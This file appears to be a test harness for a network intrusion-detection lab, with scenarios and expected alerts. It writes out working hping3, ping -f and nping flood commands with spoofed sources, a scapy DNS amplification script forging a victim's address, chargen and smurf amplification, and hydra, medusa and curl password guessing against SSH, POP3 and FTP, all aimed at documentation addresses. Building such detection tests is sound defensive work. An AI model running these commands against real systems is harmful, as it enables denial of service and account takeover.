"""Floods and other harm, in numbers that hurt nobody here."""
import time

import services
from kit import ALL, play, probe

probe("hping-syn-flood-random", "hping3", "hping3 -q -S -p 80 --rand-source -i u900 -c 540 192.0.2.10", "spoofed-syn-flood", attacker=70, sources=[], targets=["192.0.2.10"],
      seen={"tcp.flags==2 && ip.dst==192.0.2.10": 452}, bg=("web-in", "dns-out"), note="Every SYN has another source; the answers go nowhere. No source is to blame. One real client comes through.")
probe("hping-udp-flood", "hping3", "hping3 -q --udp -p 5060 -d 60 -i u700 -c 600 192.0.2.11", "udp-flood", attacker=73, targets=["192.0.2.11"], seen={"udp && ip.src==198.51.100.73": 560},
      bg=("mail-in", "dns-out"), note="One source, one closed port; the port-unreachables are limited to one a second.")


def flood(name, command, klass, *, attackers=(121,), guilty=None, bg=("web-in", "dns-out"), need=ALL, targets=("192.0.2.10",), blame=True, vantage="router, inside", seen=None, note="", forged=(), seconds=1.0, prepare=None, side="out", expect="alert", tool="hping3"):
    net = "198.51.100." if side == "out" else "192.0.2."
    guilty = guilty or ([f"{net}{a}" for a in attackers] if blame else [])

    @play(name, tool, expect, klass, need=need, bg=bg, vantage=vantage, sources=guilty, targets=targets, seen=seen, note=note, forged=forged, border=False, who="z0")
    def _(lab):
        hosts = [lab.host(f"z{i}", side, a) for i, a in enumerate(attackers)]
        if prepare:
            prepare(lab)
        yield hosts[0]
        time.sleep(2)
        running = [lab.tool(h, command, bg=True, note=i == 0) for i, h in enumerate(hosts)]
        for p in running:
            p.wait(40)
        time.sleep(seconds + 2)
        yield


flood("hping-syn-flood-fixed", "hping3 -q -S -p 80 -i u700 -c 420 192.0.2.10", "syn-flood", attackers=(121,), seen={"tcp.flags==2 && ip.src==198.51.100.121": 382},
      note="A real source: its own stack resets each SYN-ACK. Every SYN to one open port.")
flood("hping-syn-flood-forged-fixed", "hping3 -q -S -p 25 -a 198.51.100.222 -i u800 -c 360 192.0.2.11", "spoofed-syn-flood", attackers=(122,), blame=False, forged=["198.51.100.222"], targets=["192.0.2.11"], bg=("mail-in", "web-in"),
      seen={"tcp.flags==2 && ip.src==198.51.100.222": 324}, note="The forged address belongs to nobody, so no reset comes: SYN-ACKs are sent again, then the provider's router says host unreachable.")
flood("hping-syn-flood-no-answer", "hping3 -q -S -p 25 -a 198.51.100.101 -i u800 -c 360 192.0.2.11", "syn-flood", attackers=(123,), blame=False, forged=["198.51.100.101"], targets=["192.0.2.11"], bg=("mail-in", "web-in"), expect="alert",
      seen={"tcp.flags==2 && ip.src==198.51.100.101": 324}, note="The forged address is a living customer, who resets each SYN-ACK and also reads the web site. From here it cannot be told from a flood of his own: blaming him is an error that cannot be avoided, so either syn-flood or spoofed-syn-flood is right.")
flood("hping-syn-flood-four-sources", "hping3 -q -S -p 80 -i u3000 -c 120 192.0.2.10", "syn-flood", attackers=(131, 132, 133, 134), seen={"tcp.flags==2 && ip.dst==192.0.2.10": 440}, note="Four real sources at once.")
flood("hping-syn-flood-closed-port", "hping3 -q -S -p 81 -i u1000 -c 480 192.0.2.10", "syn-flood", attackers=(124,), seen={"tcp.flags==2 && ip.src==198.51.100.124": 452}, note="To a closed port: each SYN is refused at once. No backlog fills, so it is no flood of a service; its rate alone is odd. Alert or silence, both are defensible.", expect="may")
flood("hping-syn-flood-inside-out", "hping3 -q -S -p 80 --rand-source -i u900 -c 540 198.51.100.80", "spoofed-syn-flood", attackers=(99,), side="in", blame=False, targets=["198.51.100.80"], need=("pcs", "site", "resolver"), bg=("web-out", "dns-out"),
      seen={"tcp.flags==2 && ip.dst==198.51.100.80": 452}, note="A host inside floods a server outside with forged sources; the hardware address alone tells who it is.")
flood("hping-icmp-flood", "hping3 -q --icmp -d 40 -i u1000 -c 420 192.0.2.10", "icmp-flood", attackers=(125,), bg=("ping-in", "web-in"), seen={"icmp.type==8 && ip.src==198.51.100.125": 382}, note="Near a thousand echo requests a second; a customer pings once a second beside it.")
flood("hping-icmp-flood-random", "hping3 -q --icmp --rand-source -d 32 -i u900 -c 480 192.0.2.10", "icmp-flood", attackers=(126,), blame=False, bg=("ping-in", "web-in"), seen={"icmp.type==8 && ip.dst==192.0.2.10": 377}, note="Forged sources; nobody is to blame.")
flood("hping-udp-flood-random", "hping3 -q --udp -p ++1000 --rand-source -d 40 -i u900 -c 480 192.0.2.11", "udp-flood", attackers=(127,), blame=False, targets=["192.0.2.11"], bg=("mail-in", "dns-out"), seen={"udp && ip.dst==192.0.2.11": 377}, note="Forged sources, rising ports.")
flood("hping-udp-flood-three-sources", "hping3 -q --udp -p 53 -d 50 -i u2000 -c 156 192.0.2.12", "udp-flood", attackers=(135, 136, 137), targets=["192.0.2.12"], need=("ns", "www", "clients"), bg=("dns-in", "web-in"), seen={"udp.dstport==53 && ip.dst==192.0.2.12": 429}, note="Three sources send what is no DNS to a name server, which answers real lookups meanwhile.")
flood("hping-ack-flood", "hping3 -q -A -p 80 -i u800 -c 420 192.0.2.10", "tcp-flag-flood", attackers=(128,), seen={"tcp.flags==0x10 && ip.src==198.51.100.128": 382}, note="ACKs of no connection, each from another port, each answered by RST.")
flood("hping-ack-flood-random", "hping3 -q -A -p 443 --rand-source -i u800 -c 480 192.0.2.10", "tcp-flag-flood", attackers=(129,), blame=False, seen={"tcp.flags==0x10 && ip.dst==192.0.2.10": 394}, note="The same with forged sources.")
flood("hping-xmas-flood", "hping3 -q -F -P -U -p 80 -i u800 -c 600 192.0.2.10", "tcp-flag-flood", attackers=(130,), seen={"tcp.flags==0x29 && ip.src==198.51.100.130": 551}, note="FIN, PSH and URG at an open port: silence, so it is no scan of many ports.")
flood("hping-rst-flood-two-sources", "hping3 -q -R -p 25 -i u1500 -c 300 192.0.2.11", "tcp-flag-flood", attackers=(138, 139), targets=["192.0.2.11"], bg=("mail-in", "web-in"), seen={"tcp.flags==4 && ip.dst==192.0.2.11": 551}, note="RSTs of no connection from two sources.")
flood("ping-flood-iputils", "ping -q -f -s 24 -c 360 192.0.2.10", "icmp-flood", attackers=(140,), tool="ping", bg=("web-in",), seen={"icmp.type==8 && ip.src==198.51.100.140": 336}, note="ping -f sends the next as soon as an answer comes.")


def big_answer(lab):
    """A resolver that gives everybody a TXT record of two thousand octets."""
    services.dns(lab.host("open", "in", 15), hosts=())


DNS_FORGED = '''
from scapy.all import IP, UDP, DNS, DNSQR, DNSRROPT, send, conf
import time
conf.verb = 0
for i in range(36):
    send(IP(src="198.51.100.103", dst="192.0.2.15") / UDP(sport=1024 + 7 * i, dport=53) / DNS(id=i, rd=1, qd=DNSQR(qname="big.example.net", qtype="TXT"), ar=DNSRROPT(rclass=4096)), iface="eth0")
    time.sleep(0.004)
'''


@play("dns-amplification", "python", "alert", "amplification", need=("www", "clients", "pcs", "resolver"), bg=("web-in", "dns-out"), sources=[], targets=["198.51.100.103"], forged=["198.51.100.103"], border=False,
      seen={"ip.src==192.0.2.15 && ip.flags.mf==1": 30}, note="36 questions for a TXT record of 2000 octets, forged in the name of a customer, to an open name server; he gets fragments that he did not ask for and answers with port-unreachable. (sender: scapy)")
def _(lab):
    big_answer(lab)
    eve = lab.host("eve", "out", 141)
    yield
    time.sleep(1)
    services.python(eve, "forged_dns.py", DNS_FORGED)
    lab.commands.append("python3 forged_dns.py (scapy: 36 x TXT big.example.net with EDNS 4096, source 198.51.100.103, to 192.0.2.15)")
    time.sleep(7)
    yield


@play("chargen-amplification", "hping3", "alert", "amplification", need=("www", "ftp", "clients"), bg=("web-in", "ftp-in"), sources=[], targets=["198.51.100.103"], forged=["198.51.100.103"], border=False,
      seen={"udp.srcport==19": 150}, note="Datagrams of one octet to the chargen port of two old hosts, forged in the name of a customer, answered with much more.")
def _(lab):
    services.inetd(lab.host("old", "in", 16), ("chargen", "echo"))
    eve = lab.host("eve", "out", 142)
    yield
    time.sleep(1)
    for h in (13, 16):
        lab.tool(eve, f"hping3 -q --udp -p 19 -s 4000 -k -d 1 -a 198.51.100.103 -i u12000 -c 100 192.0.2.{h}", bg=True)
    time.sleep(4)
    yield


@play("smurf-directed-broadcast", "hping3", "alert", "amplification", need=("www", "mail", "ns", "pcs", "clients"), bg=("web-in",), sources=[], targets=["198.51.100.103"], forged=["198.51.100.103"], border=False, vantage="segment, inside",
      seen={"icmp.type==0": 300}, note="Echo requests to the broadcast address of the inside, forged in the name of a customer; six hosts answer each. (bc_forwarding and replies to broadcast are on, as they once were)")
def _(lab):
    lab.sysctl(lab.rt, {"net.ipv4.conf.all.bc_forwarding": 1, "net.ipv4.conf.wan0.bc_forwarding": 1})
    for h in lab.hosts.values():
        if h.side == "in":
            lab.sysctl(h, {"net.ipv4.icmp_echo_ignore_broadcasts": 0})
    eve = lab.host("eve", "out", 143)
    yield
    time.sleep(1)
    lab.tool(eve, "hping3 -q --icmp -d 40 -a 198.51.100.103 -i u20000 -c 90 192.0.2.255")
    time.sleep(2)
    yield


@play("echo-chargen-loop", "hping3", "alert", "echo-chargen-loop", need=("www", "clients"), bg=("web-in",), sources=[], targets=["192.0.2.13", "198.51.100.60"], border=False, lab=dict(delay_ms=5, jitter_ms=3),
      seen={"udp.port==7 && udp.port==19": 300}, forged=["192.0.2.13"], note="One forged datagram sets the echo service inside against the chargen service outside. They go on until stopped.")
def _(lab):
    services.inetd(lab.host("ftp", "in", 13), ("echo",))
    services.inetd(lab.host("old", "out", 60), ("chargen",))
    eve = lab.host("eve", "out", 144)
    yield
    time.sleep(1)
    lab.tool(eve, "hping3 -q --udp -s 7 -k -p 19 -d 8 -a 192.0.2.13 -c 1 198.51.100.60")
    time.sleep(3)
    yield


@play("hydra-ssh-three-sources", "hydra", "alert", "password-guessing", need=("www", "clients", "pcs", "resolver"), bg=("ssh-in", "web-in"), sources=["198.51.100.145", "198.51.100.146", "198.51.100.147"], targets=["192.0.2.10"],
      seen={"tcp.dstport==22 && tcp.flags==2": 9}, note="Three sources share a list of passwords; an administrator works meanwhile.")
def _(lab):
    running = []
    for i in range(3):
        lab.file(f"words{i}.txt", "\n".join(f"berg{i}{n}" for n in range(8)) + "\n")
    hosts = [lab.host(f"z{i}", "out", 145 + i) for i in range(3)]
    yield
    for i, h in enumerate(hosts):
        running.append(lab.tool(h, f"hydra -l admin -P words{i}.txt -t 2 -I ssh://192.0.2.10", bg=True))
        time.sleep(1)
    for p in running:
        p.wait(60)
    time.sleep(1)
    yield


@play("medusa-pop3-one-each", "medusa", "alert", "password-guessing", need=("mail", "www", "clients"), bg=("mail-in", "web-in"), pause=6, sources=["198.51.100.148"], targets=["192.0.2.11"],
      seen={"tcp.dstport==110 && tcp.flags==2 && ip.src==198.51.100.148": 2}, note="Medusa on one mailbox, over few connections.")
def _(lab):
    lab.file("words.txt", "\n".join(f"tal{n}" for n in range(12)) + "\n")
    h = lab.host("z0", "out", 148)
    yield
    lab.tool(h, "medusa -h 192.0.2.11 -u anna -P words.txt -M pop3 -t 2", timeout=60)
    time.sleep(1)
    yield


@play("curl-ftp-one-each-slow", "curl", "alert", "password-guessing", need=("ftp", "www", "clients"), bg=("ftp-in", "web-in"), pause=5, sources=["198.51.100.149"], targets=["192.0.2.13"], seen={"ftp.response.code==530": 14},
      note="One password a connection, one connection a second.")
def _(lab):
    h = lab.host("z0", "out", 149)
    yield
    lab.tool(h, "for p in $(seq 1 15); do curl -s -m 5 -o /dev/null ftp://192.0.2.13/ -u root:vienna$p; sleep 0.8; done", timeout=60)
    yield


@play("nping-syn-flood-ipv6", "nping", "alert", "syn-flood", need=("www", "pcs", "clients", "resolver"), bg=("web-in", "dns-out"), sources=["2001:db8:1::144"], targets=["2001:db8:2::10"], border=False, seen={"ipv6.src==2001:db8:1::144 && tcp.flags==2": 240},
      note="A SYN flood over IPv6 from one address; three source ports, the same SYN again and again.")
def _(lab):
    eve = lab.host("eve", "out", 144)
    yield
    time.sleep(1)
    for first in (20000, 30000, 40000):
        lab.tool(eve, f"nping -6 -q -N --tcp --flags syn -p 80 -g {first} --rate 100 -c 90 2001:db8:2::10", bg=True)
    time.sleep(6)
    yield


flood("ping6-flood", "ping -6 -q -f -s 24 -c 300 2001:db8:2::10", "icmp-flood", attackers=(145,), tool="ping", guilty=["2001:db8:1::145"], bg=("web-in",), targets=["2001:db8:2::10"], seen={"icmpv6.type==128 && ipv6.src==2001:db8:1::145": 280}, note="An ICMPv6 flood by 2001:db8:1::145.")
